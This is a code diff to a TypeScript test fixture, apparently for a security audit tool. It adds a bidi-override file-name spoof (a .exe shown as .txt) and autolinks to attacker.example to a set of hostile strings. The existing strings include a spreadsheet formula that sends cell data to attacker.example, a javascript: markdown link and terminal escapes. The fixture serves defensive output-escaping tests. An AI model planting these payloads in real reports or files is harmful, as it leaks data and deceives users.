@@ -19,6 +19,10 @@ export const HOSTILE = {
   formula: '=HYPERLINK("https://attacker.example/?x="&A1,"click")',
   markdown: '| **bold** [link](javascript:alert(1)) @platform-team `code` # heading',
   terminal: 'red\x1b[31m\x1b]0;title\x07\r\nnext',
+  /** Shown as `allow-exe.txt` by a bidi-aware viewer: RLO reverses what follows, an isolate hides more. */
+  bidi: 'allow-\u202etxt.exe\u2066\u2069\u200f',
+  /** What GitHub Markdown turns into links by itself (extended autolinks). */
+  autolink: 'https://attacker.example/x www.attacker.example ops@attacker.example mailto:ops@attacker.example',
 } as const;
 
 export const TEST_CHECKS: CheckSummary[] = [
@@ -142,7 +146,7 @@ export function hostileResult(): AuditResult {
   const broad = findingOf({
     id: 'f-broad',
     checkId: 'overly-broad-rule',
-    message: `Allow rule ${HOSTILE.formula} is over-broad`,
+    message: `Allow rule ${HOSTILE.formula} ${HOSTILE.bidi} is over-broad; see ${HOSTILE.autolink}`,
     resourceId: ids.group('afwp', HOSTILE.formula),
     resource: {
       id: ids.group('afwp', HOSTILE.formula),
